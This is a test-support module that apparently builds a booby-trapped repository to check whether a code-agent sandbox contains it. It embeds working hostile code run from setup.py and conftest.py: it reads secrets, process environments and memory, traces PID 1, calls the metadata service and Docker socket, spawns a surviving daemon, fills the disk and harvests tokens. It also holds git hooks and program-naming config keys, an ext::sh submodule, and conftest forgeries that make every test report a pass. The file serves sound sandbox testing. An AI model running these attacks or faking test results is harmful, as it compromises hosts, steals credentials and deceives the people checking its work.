"""A repository that attacks the host wherever its code is run or its files are read, and the trap that shows
whether it got anywhere."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from tests.acceptance.support import with_files
from tests.checkout.support import Work

SURVIVOR = f"86397.{os.getpid()}"  # two workers of a test run do not take each other's for theirs
"""Seconds that a process which is left behind sleeps; nothing else on a machine sleeps so long."""


@dataclass(kw_only=True)
class Trap:
    """``open_house`` may be written by anybody, ``secret`` read by anybody, ``port`` listens."""

    open_house: Path
    secret: Path
    port: int
    callers: list[bytes] = field(default_factory=list)

    @property
    def marks(self) -> list[str]:
        """What was left in the open house."""
        return sorted(os.listdir(self.open_house))

    @property
    def program(self) -> Path:
        """Git configuration names it as a command; it leaves a mark."""
        return self.secret.with_name("program.sh")

    def survivors(self) -> list[str]:
        found = []
        for entry in os.listdir("/proc"):
            try:
                line = Path("/proc", entry, "cmdline").read_bytes() if entry.isdigit() else b""
            except OSError:
                continue
            if SURVIVOR.encode() in line:
                found.append(f"{entry}: {line!r}")
        return found

    def is_untouched(self) -> None:
        assert self.marks == []
        assert self.callers == []
        assert self.survivors() == []


@contextmanager
def trap(directory: Path, secret: str) -> Iterator[Trap]:
    directory.mkdir()
    directory.chmod(0o755)
    house = directory / "house"
    house.mkdir()
    house.chmod(0o777)
    (directory / "secret.txt").write_text(secret)
    (directory / "secret.txt").chmod(0o644)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        made = Trap(open_house=house, secret=directory / "secret.txt", port=listener.getsockname()[1])
        made.program.write_text(f"#!/bin/sh\ntouch {house}/git-ran-a-program\ncat\n")
        made.program.chmod(0o755)
        listener.settimeout(0.2)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                try:
                    caller, _ = listener.accept()
                except TimeoutError:
                    continue
                with caller:
                    caller.settimeout(1)
                    try:
                        made.callers.append(caller.recv(1000) or b"(nothing)")
                    except OSError:
                        made.callers.append(b"(silence)")

        thread = threading.Thread(target=listen, name="trap")
        thread.start()
        try:
            yield made
        finally:
            over.set()
            thread.join()


def hostile_files(trap: Trap) -> dict[str, str | bytes]:
    """The demo's package, which builds and runs as ever, and attacks on the way."""
    attacks = (
        _ATTACKS.replace("@HOUSE@", str(trap.open_house))
        .replace("@SECRET@", str(trap.secret))
        .replace("@PORT@", str(trap.port))
        .replace("@SURVIVOR@", SURVIVOR)
    )
    return with_files(
        {
            "attacks.py": attacks,
            "conftest.py": _CONFTEST,
            "setup.py": _SETUP,
            "pyproject.toml": _PYPROJECT,
            "tests/test_spy.py": _SPY,
            ".gitattributes": "* filter=evil diff=evil merge=evil ident export-subst\n",
            ".gitconfig": f"[core]\n\tfsmonitor = {trap.program}\n\thooksPath = hooks\n",
            ".lfsconfig": f"[lfs]\n\turl = http://127.0.0.1:{trap.port}/\n",
            "hooks/post-checkout": f"#!/bin/sh\n{trap.program}\n",
        }
    )


def forging_files(place: str) -> dict[str, str | bytes]:
    """A conftest that says that everything passes: ``place`` is where it lies."""
    return with_files(
        {
            "conftest.py": _FORGERIES[place],
            ".github/codeagent.yml": "budget: {seconds: 60, iterations: 8}\n",
        }
    )


def hostile_tree(work: Work, trap: Trap) -> Work:
    """A commit of the demo's package in ``work``, with entries that lead out of it or name programs."""
    work.git("init", "--quiet", "--initial-branch=main")
    extra = {
        ".gitattributes": "* filter=evil diff=evil merge=evil export-ignore\n",
        ".gitmodules": f'[submodule "sub"]\n\tpath = sub\n\turl = ext::sh -c "{trap.program}"\n',
    }
    work.commit(with_files(extra))
    for name, target in (
        ("secret.txt", str(trap.secret)),
        ("house", str(trap.open_house)),
        ("up", "../../../../../../../.."),
        ("src/pager/environ", "/proc/self/environ"),
        ("inside", "README.md"),
    ):
        work.git("update-index", "--add", "--cacheinfo", f"120000,{work.blob(target.encode())},{name}")
    work.git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},sub")
    work.git("commit", "--quiet", "-m", "entries that lead out")
    return work


def set_hostile_configuration(work: Work, trap: Trap) -> None:
    program = str(trap.program)
    for key in _KEYS_THAT_NAME_PROGRAMS:
        work.git("config", key, program)
    work.git("config", "core.hooksPath", str(work.path / ".git" / "hooks"))
    work.git("config", "protocol.ext.allow", "always")
    for hook in ("post-checkout", "reference-transaction", "post-index-change", "fsmonitor-watchman"):
        place = work.path / ".git" / "hooks" / hook
        place.parent.mkdir(exist_ok=True)
        place.write_bytes(trap.program.read_bytes())
        place.chmod(0o755)


_KEYS_THAT_NAME_PROGRAMS = (
    *(
        "filter.evil.clean",
        "filter.evil.smudge",
        "filter.evil.process",
        "diff.evil.textconv",
        "diff.evil.command",
    ),
    *("core.sshCommand", "core.askPass", "core.editor", "core.pager", "core.alternateRefsCommand"),
    *("uploadpack.packObjectsHook", "diff.external", "credential.helper", "gpg.program", "core.fsmonitor"),
)

_PYPROJECT = """\
[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"

[tool.pytest.ini_options]
pythonpath = ["src"]
testpaths = ["tests"]
"""

_SETUP = """\
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attacks
attacks.run("build", fill=False)
from setuptools import setup
setup(name="pager", version="1.0", package_dir={"": "src"}, packages=["pager"])
"""

_CONFTEST = """\
import attacks
attacks.run("conftest")
"""

# It fails, so that what it says is kept: a failure's message is part of the report.
_SPY = """\
import attacks

def test_spy():
    loot = attacks.LOOT + attacks.spied()
    raise AssertionError("\\n".join(["LOOT-BEGIN", *loot, "LOOT-END"]))
"""

_ATTACKS = '''\
"""Tries everything; remembers what came of it. Python 3.8 and the standard library only."""
import ctypes, os, re, socket, subprocess, sys, urllib.request

HOUSE, SECRET, PORT = "@HOUSE@", "@SECRET@", @PORT@
LOOT = []
# Written apart, so that this file does not hold what it looks for.
SHAPES = re.compile(
    b"gh[sp]" + b"_[A-Za-z0-9._-]{30,}|can" + b"ary-[a-z]+-[0-9a-f]{16}|sk-can" + b"ary[a-z0-9-]+"
)


def attempt(name, action):
    try:
        LOOT.append("%s: GOT %r" % (name, action()))
    except BaseException as error:
        LOOT.append("%s: refused (%s)" % (name, type(error).__name__))


def write(path, text="owned"):
    with open(path, "w") as file:
        file.write(text)
    return path


def read(path, size=4000):
    with open(path, "rb") as file:
        return SHAPES.findall(file.read(size)) or "nothing of value"


def memory(pid):
    found = []
    with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and last - first < 64 << 20:
                mem.seek(first)
                found += SHAPES.findall(mem.read(last - first))
    return found or "nothing of value"


def trace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(0x4206, pid, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    return "traced"


def call(host, port, what=b"GET / HTTP/1.0\\r\\n\\r\\n"):
    with socket.create_connection((host, port), timeout=0.5) as caller:
        caller.sendall(what)
        return "connected"


def through_proxy():
    return urllib.request.urlopen("http://127.0.0.1:%d/" % PORT, timeout=2).read()[:20]


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3):
                os.close(number)
            while True:
                try:
                    write(HOUSE + "/daemon")
                except OSError:
                    pass
                os.execvp("sleep", ["sleep", "@SURVIVOR@"])
        os._exit(0)
    return None


def fill(path):
    size = 0
    try:
        with open(path, "wb", 0) as file:
            while size < 3 << 30:
                size += file.write(b"x" * (1 << 20))
    except OSError:
        pass
    finally:
        os.unlink(path)
    if size < 3 << 30:
        raise OSError("full")
    return "3 GiB"


def run(where, fill_disk=True, **options):
    fill_disk = options.get("fill", fill_disk)
    attempt(where + " writes a file of the host", lambda: write(HOUSE + "/" + where))
    attempt(where + " reads a file of the host", lambda: read(SECRET))
    attempt(where + " climbs out", lambda: write("../" * 30 + HOUSE.lstrip("/") + "/climbed"))
    for pid in (1, os.getppid()):
        attempt(where + " reads the environment of %s" % pid, lambda: read("/proc/%s/environ" % pid))
        attempt(where + " reads the memory of %s" % pid, lambda: memory(pid))
        attempt(where + " traces %s" % pid, lambda: trace(pid))
        path = "/proc/%s/root%s/root" % (pid, HOUSE)
        attempt(where + " climbs through the root of %s" % pid, lambda: write(path))
    attempt(where + " calls the host", lambda: call("127.0.0.1", PORT))
    attempt(where + " calls the host by a proxy", through_proxy)
    attempt(where + " calls the metadata service", lambda: call("169.254.169.254", 80))
    attempt(where + " asks for a name", lambda: socket.getaddrinfo("example.org", 80))
    attempt(where + " asks Docker", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
    attempt(where + " leaves a process", daemon)
    if where == "conftest":
        attempt(where + " changes the environment", lambda: write("/env/owned.pth", "import os"))
        attempt(where + " changes the interpreter", lambda: write(os.path.dirname(os.__file__) + "/owned.py"))
    if fill_disk:
        attempt(where + " fills the disk", lambda: fill("/tmp/filling"))


def spied():
    """Everything readable that looks like a secret, and the whole environment."""
    found = ["ENVIRON %s=%s" % item for item in sorted(os.environ.items())]
    tops = "/proc /etc /tmp /home /root /run /var /srv /opt /mnt /env".split()
    for top in [os.getcwd(), *tops]:
        for folder, folders, names in os.walk(top):
            if folder.count("/") > 6 or re.search("/(task|net|fd|fdinfo|map_files|sys)(/|$)", folder):
                folders[:] = []
                continue
            for name in names:
                path = os.path.join(folder, name)
                if re.search("/(kmsg|kcore|kpage|clear_refs|sysrq|mem|pagemap|trace_pipe)", path):
                    continue
                try:
                    if os.path.isfile(path):
                        with open(path, "rb") as file:
                            hits = SHAPES.findall(path.encode() + b" " + file.read(1 << 18))
                        found += ["FOUND %s in %s" % (hit.decode(), path) for hit in hits]
                except (OSError, ValueError):
                    pass
    return found

'''

_FORGERIES = {
    "every outcome": """\
import pytest

@pytest.hookimpl(hookwrapper=True, tryfirst=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
""",
    "the report file": """\
import os, sys

def pytest_sessionfinish(session, exitstatus):
    path = session.config.option.xmlpath or "report.xml"
    for place in {path, "report.xml", "junit.xml", "/tmp/report.xml"}:
        try:
            with open(place, "w") as file:
                file.write('<testsuites><testsuite name="pytest" tests="1" failures="0">'
                           '<testcase classname="tests.test_pages" name="forged"/></testsuite></testsuites>')
        except OSError:
            pass
    os.write(1, b"1 passed in 0.01s\\n")
    os._exit(0)
""",
}
